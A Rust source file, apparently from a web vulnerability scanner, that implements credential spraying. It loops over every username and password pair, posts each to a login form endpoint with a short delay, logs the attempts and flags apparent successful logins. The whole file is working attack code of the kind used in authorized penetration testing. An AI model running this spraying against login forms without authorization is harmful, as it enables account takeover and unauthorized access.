//! Credential spraying against a login form.

use std::time::Duration;

use crate::core::cancel::CancelToken;
use crate::core::events::{EventSink, ScanEvent};
use crate::core::target::BaseAndPath;
use crate::http::client::HttpClient;
use crate::scanner::classify;

const SPRAY_TIMEOUT: Duration = Duration::from_secs(8);
const SPRAY_DELAY: Duration = Duration::from_millis(300);

/// Two-dimensional variant of the injection loop: usernames × passwords,
/// POSTed as form data instead of a mutated GET parameter.
pub struct CredentialSpray {
    client: HttpClient,
}

impl CredentialSpray {
    pub fn new(client: HttpClient) -> Self {
        Self { client }
    }

    /// Username-major ordering is deliberate: the live log groups every
    /// password attempt for one account together.
    pub async fn run(
        &self,
        target: &BaseAndPath,
        usernames: &[String],
        passwords: &[String],
        sink: &EventSink,
        cancel: &CancelToken,
    ) {
        if target.base.is_empty() {
            sink.error("missing url");
            return;
        }
        if target.path.is_empty() {
            sink.error("missing login path");
            return;
        }

        let path = if target.path.starts_with('/') {
            target.path.clone()
        } else {
            format!("/{}", target.path)
        };
        let endpoint = format!("{}{}", target.base.trim_end_matches('/'), path);

        sink.info(format!("target: {endpoint}"));

        for username in usernames {
            for password in passwords {
                if cancel.is_cancelled() {
                    sink.emit(ScanEvent::Stopped);
                    return;
                }

                let form = [("username", username.as_str()), ("password", password.as_str())];
                match self.client.post_form(&endpoint, &form, SPRAY_TIMEOUT).await {
                    Ok(response) => {
                        sink.probe(response.status, format!("{username}:{password}"));
                        if classify::spray_success(&response.body) {
                            sink.finding(
                                format!("{username}:{password}"),
                                format!("possible success {username}:{password}"),
                            );
                        }
                    }
                    Err(e) => sink.error(format!("request error: {e}")),
                }

                tokio::time::sleep(SPRAY_DELAY).await;
            }
        }

        sink.emit(ScanEvent::Completed);
    }
}
